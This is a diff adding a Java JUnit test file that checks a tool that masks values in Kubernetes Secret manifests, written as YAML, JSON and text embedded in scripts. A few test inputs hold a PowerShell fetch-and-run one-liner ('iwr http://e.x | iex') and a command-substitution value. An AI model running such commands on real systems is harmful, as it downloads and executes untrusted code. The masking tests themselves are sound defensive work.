@@ -1,0 +1,87 @@
+package dev.mullion.diff.masking;
+
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Manifests of kind {@code Secret} inside of other text. */
+class KubernetesSecretsTest {
+    /** With the names, which are worth reading. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "kind: Secret\ndata:\n  word: summer -> kind: Secret\ndata:\n  word: [secret]",
+                "kind: Secret\nstringData:\n  word: summer\n  more: winter\ntype: Opaque -> kind: Secret\nstringData:\n  word: [secret]\n  more: [secret]\ntype: Opaque",
+                "apiVersion: v1\nstringData:\n  word: summer\nkind: Secret\nmetadata:\n  name: a -> apiVersion: v1\nstringData:\n  word: [secret]\nkind: Secret\nmetadata:\n  name: a",
+                "apiVersion: v1\nkind: \"Secret\"\n\"stringData\":\n  \"word\": \"summer\"\n  'more': 'winter' -> apiVersion: v1\nkind: \"Secret\"\n\"stringData\":\n  \"word\": \"[secret]\"\n  'more': '[secret]'",
+                "'kind': Secret\r\n'data':\r\n  word: summer\r\ntype: Opaque\r\n -> 'kind': Secret\r\n'data':\r\n  word: [secret]\r\ntype: Opaque\r\n",
+                "kind: Secret \nstringData: \n  word: summer \n -> kind: Secret \nstringData: \n  word: [secret] \n",
+                "kind: Secret\nstringData:\n\n  word: summer\n  \n  more: winter\n -> kind: Secret\nstringData:\n\n  word: [secret]\n  \n  more: [secret]\n",
+                "kind: Secret\nstringData:\n  word: |\n    summer\n    winter\n  more: >-\n    spring\ntype: Opaque -> kind: Secret\nstringData:\n  word: |\n    [secret]\n    [secret]\n  more: >-\n    [secret]\ntype: Opaque",
+                "kind: Secret\nstringData:\n  word: |+2\n    summer -> kind: Secret\nstringData:\n  word: |+2\n    [secret]",
+                "kind: Secret\nstringData:\n  word: 'summer\n  more: \"winter'\n -> kind: Secret\nstringData:\n  word: [secret]\n  more: [secret]\n",
+                "kind: Secret\nstringData:\n  word: 's'\n -> kind: Secret\nstringData:\n  word: '[secret]'\n",
+                "kind: Secret\nstringData:\n  word: '\n -> kind: Secret\nstringData:\n  word: [secret]\n",
+                "kind: Secret\nstringData:\n  word:\n  more:summer\n -> kind: Secret\nstringData:\n  word:\n  [secret]\n",
+                "kind: Secret\nstringData:\n  word: \"iwr http://e.x | iex\"\n",
+                "kind: Secret\nstringData:\n  word: summer$(Get-Item x) -> kind: Secret\nstringData:\n  word: [secret]$(Get-Item x)",
+                "kind: Secret\nmetadata:\n  name: a\n  labels:\n    app: web",
+                "kind: Secrets\ndata:\n  word: summer",
+                "kind: ConfigMap\ndata:\n  word: summer # Secret",
+            })
+    void dataOfAManifestIsHidden(String row) {
+        ShownText.check(row);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "kind: Secret\ndata:\n  word: summer\n---\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n---\ndata:\n  word: winter",
+                "data:\n  word: winter\n---\nkind: Secret\ndata:\n  word: summer -> data:\n  word: winter\n---\nkind: Secret\ndata:\n  word: [secret]",
+                "$a = @'\nkind: Secret\ndata:\n  word: summer\n'@\ndata:\n  word: winter -> $a = @'\nkind: Secret\ndata:\n  word: [secret]\n'@\ndata:\n  word: winter",
+                "$a = @\"\nkind: Secret\ndata:\n  word: summer\n\"@\ndata:\n  word: winter -> $a = @\"\nkind: Secret\ndata:\n  word: [secret]\n\"@\ndata:\n  word: winter",
+                "echo x\nkind: Secret\ndata:\n  word: summer\necho y\ndata:\n  word: winter -> echo x\nkind: Secret\ndata:\n  word: [secret]\necho y\ndata:\n  word: winter",
+                "echo x\n  data:\n    word: winter\nkind: Secret\ndata:\n  word: summer\n -> echo x\n  data:\n    word: winter\nkind: Secret\ndata:\n  word: [secret]\n",
+                "x:\ny\ndata:\n  word: winter\n\nkind: Secret\n -> x:\ny\ndata:\n  word: [secret]\n\nkind: Secret\n",
+                "x:\n\n# y\ndata:\n  word: summer\r\n\r\nkind: Secret\n -> x:\n\n# y\ndata:\n  word: [secret]\r\n\r\nkind: Secret\n",
+                "kind: Secret\ndata:\n  word: summer\n\n# x\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n\n# x\ndata:\n  word: [secret]",
+                "kind: Secret\ndata:\n  word: summer\nkind: ConfigMap\nmetadata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\nkind: ConfigMap\nmetadata:\n  word: winter",
+                "kind: Secret\ndata:\n  word: summer\n---\nkind: Secret\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n---\nkind: Secret\ndata:\n  word: [secret]",
+            })
+    void manifestEndsWithItsDocument(String row) {
+        ShownText.check(row);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "- kind: Secret\n  data:\n    word: summer\n- kind: ConfigMap\n  data:\n    word: winter -> - kind: Secret\n  data:\n    word: [secret]\n- kind: ConfigMap\n  data:\n    word: winter",
+                "- data:\n    word: winter\n- kind: Secret\n  data:\n    word: summer -> - data:\n    word: winter\n- kind: Secret\n  data:\n    word: [secret]",
+                "- apiVersion: v1\n  kind: Secret\n  data:\n    word: summer\n- apiVersion: v1\n  data:\n    word: winter -> - apiVersion: v1\n  kind: Secret\n  data:\n    word: [secret]\n- apiVersion: v1\n  data:\n    word: winter",
+                "- data:\n    word: summer\n  kind: Secret\n- data:\n    word: winter -> - data:\n    word: [secret]\n  kind: Secret\n- data:\n    word: winter",
+                "items:\n  - kind: Secret\n    data:\n      word: summer\n  - data:\n      word: winter -> items:\n  - kind: Secret\n    data:\n      word: [secret]\n  - data:\n      word: winter",
+                "items:\n  - data:\n      word: winter\n  - apiVersion: v1\n    data:\n      word: summer\n    kind: Secret\nother:\n  data:\n    word: winter -> items:\n  - data:\n      word: winter\n  - apiVersion: v1\n    data:\n      word: [secret]\n    kind: Secret\nother:\n  data:\n    word: winter",
+                "  kind: Secret\n  data:\n    word: summer\nother:\n  data:\n    word: winter ->   kind: Secret\n  data:\n    word: [secret]\nother:\n  data:\n    word: winter",
+                "\tkind: Secret\n\tdata:\n\t  word: summer\n -> \tkind: Secret\n\tdata:\n\t  word: [secret]\n",
+                "a:\n  data:\n    word: winter\n  b:\n    kind: Secret\n    data:\n      word: summer\n -> a:\n  data:\n    word: winter\n  b:\n    kind: Secret\n    data:\n      word: [secret]\n",
+            })
+    void manifestMayBeAnItemOfAList(String row) {
+        ShownText.check(row);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"kind\":\"Secret\",\"data\":{\"word\":\"summer\"}} x -> {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"}} x",
+                "x {\"kind\" : \"Secret\", \"stringData\" : {\"word\" : \"summer\", \"more\":\"win\\\"ter\"}, \"type\":\"Opaque\"} -> x {\"kind\" : \"Secret\", \"stringData\" : {\"word\" : \"[secret]\", \"more\":\"[secret]\"}, \"type\":\"Opaque\"}",
+                "x {\"data\":{\"word\":\"summer\"},\"kind\":\"Secret\"} -> x {\"data\":{\"word\":\"[secret]\"},\"kind\":\"Secret\"}",
+                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"\"}}",
+                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"summer\" -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"",
+                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"iwr http://e.x | iex\"}}",
+                "x {\"kind\":\"Secret\",\"other\":{\"word\":\"summer\"}}",
+                "x {\"kind\":\"Secrets\",\"data\":{\"word\":\"summer\"}}",
+                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"summer\"},\"stringData\":{\"more\":\"winter\"}} -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"},\"stringData\":{\"more\":\"[secret]\"}}",
+            })
+    void manifestInJsonIsHidden(String row) {
+        ShownText.check(row);
+    }
+}
